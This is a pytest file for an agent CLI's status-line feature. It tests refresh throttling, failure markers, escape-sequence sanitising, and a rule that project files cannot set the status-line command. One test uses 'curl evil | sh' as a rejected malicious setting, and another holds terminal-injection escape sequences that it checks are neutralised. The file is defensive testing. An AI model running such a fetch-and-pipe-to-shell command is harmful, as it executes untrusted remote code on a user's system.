"""The status line (`[ui] statusline`): refreshed at most once a second (an injected clock), a slow
run keeps the last line, a failure is a short marker, the output made safe; the setting is the
user's only. A real command gets its JSON on stdin (the hook runner, a real process)."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from agent_cli.config.load import ConfigLayer, Flags, parse_config, resolve_settings
from agent_cli.core.errors import ConfigError
from agent_cli.hooks_user.process import HookRun, run_hook
from agent_cli.ui.status_line import INTERVAL, StatusLine, safe_line


class Clock:
    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


class Runs:
    """A runner that answers from a script and counts its calls (the real one is tested below)."""

    def __init__(self, *outcomes: HookRun) -> None:
        self.outcomes = list(outcomes)
        self.payloads: list[bytes] = []

    def __call__(self, command: str, payload: bytes, cwd: Path, timeout: float) -> HookRun:
        self.payloads.append(payload)
        return self.outcomes.pop(0) if len(self.outcomes) > 1 else self.outcomes[0]


def now(work: Callable[[], None]) -> None:
    work()  # the run happens at once (the REPL's runs in a thread)


def ok(text: str) -> HookRun:
    return HookRun(0, text, "")


def status(runs: Runs, clock: Clock) -> StatusLine:
    payload = {"model": {"id": "m"}}
    return StatusLine("my-status", lambda: payload, Path("."), clock=clock, run=runs, start=now)


def test_a_redraw_runs_the_command_at_most_once_a_second() -> None:
    clock = Clock()
    runs = Runs(ok("one\n"), ok("two\n"), ok("three\n"))
    line = status(runs, clock)
    assert line.line() == ""  # the first draw starts the first run; its line shows on the redraw
    assert line.runs == 1
    clock.now += 0.25
    assert line.line() == "one"
    clock.now += 0.5  # 0.75 s since the run: a redraw (a key, a turn's end) starts nothing
    assert line.line() == "one"
    assert line.runs == 1
    clock.now += INTERVAL - 0.75
    assert line.line() == "one"  # due: the second run starts
    assert line.runs == 2
    assert line.line() == "two"
    assert line.runs == 2


def test_no_second_run_starts_while_one_is_running() -> None:
    clock = Clock()
    started: list[Callable[[], None]] = []
    line = StatusLine("s", dict, Path("."), clock=clock, run=Runs(ok("x")), start=started.append)
    line.line()
    clock.now += 10
    line.line()
    assert len(started) == 1  # the first has not ended yet
    started[0]()
    assert line.line() == "x"


def test_a_slow_run_keeps_the_last_line_and_a_failure_is_a_marker() -> None:
    clock = Clock()
    runs = Runs(ok("fine"), HookRun(None, "", "", timed_out=True), HookRun(3, "half\n", "boom"))
    line = status(runs, clock)
    line.line()
    for expected in ("fine", "fine", "[statusline: exit 3]"):
        clock.now += INTERVAL
        assert line.line() == expected
    assert "Traceback" not in line.line()


def test_a_command_that_cannot_start_or_is_slow_from_the_start_shows_a_marker() -> None:
    clock = Clock()
    line = status(Runs(HookRun(None, "", "", timed_out=True)), clock)
    line.line()
    assert line.line() == "[statusline: no line within 1 s]"
    line = status(Runs(HookRun(None, "", "", failed="cannot start: No such file")), clock)
    line.line()
    assert line.line() == "[statusline: cannot start: No such file]"


def test_the_output_is_made_safe() -> None:
    assert safe_line("\x1b[32mmain\x1b[0m · \x1b[1;38;5;208mOpus\x1b[0m\nsecond line\n") == "main · Opus"
    # Only colours are stripped: what moves the cursor or sets the title is written out, not obeyed.
    shown = safe_line("a\x1b[2K\rb\x1b]0;title\x07c\x9bd\u202ee")
    assert shown == "a\\x1b[2K\\x0db\\x1b]0;title\\x07c\\x9bd\\u202ee"
    assert not any(ch in shown for ch in "\x1b\r\x07\x9b\u202e")
    assert len(safe_line("x" * 10_000)) == 400


def test_a_real_command_reads_the_json_on_stdin(tmp_path: Path) -> None:
    clock = Clock()
    payload = {"model": {"id": "claude-x", "display_name": "Claude X"}, "cwd": str(tmp_path)}
    script = 'import json, sys; print("model=" + json.load(sys.stdin)["model"]["display_name"])'
    command = f"python3 -c '{script}'"
    line = StatusLine(command, lambda: payload, tmp_path, clock=clock, start=now)
    line.line()
    assert line.line() == "model=Claude X"


def test_the_real_runner_bounds_a_slow_command(tmp_path: Path) -> None:
    run = run_hook("sleep 30", b"{}", tmp_path, 0.5)
    assert run.timed_out and run.exit_code is None


def layer(text: str, *, project: bool) -> ConfigLayer:
    return parse_config(text, Path("/x/config.toml"), project=project)


def test_only_the_users_config_sets_the_status_line(tmp_path: Path) -> None:
    user = layer('[ui]\nstatusline = "~/bin/status"\n', project=False)
    settings = resolve_settings([user], {}, Flags(), tmp_path)
    assert settings.ui.statusline == "~/bin/status"
    with pytest.raises(ConfigError, match=r"ui\.statusline cannot be set in a project file"):
        layer('[ui]\nstatusline = "curl evil | sh"\n', project=True)
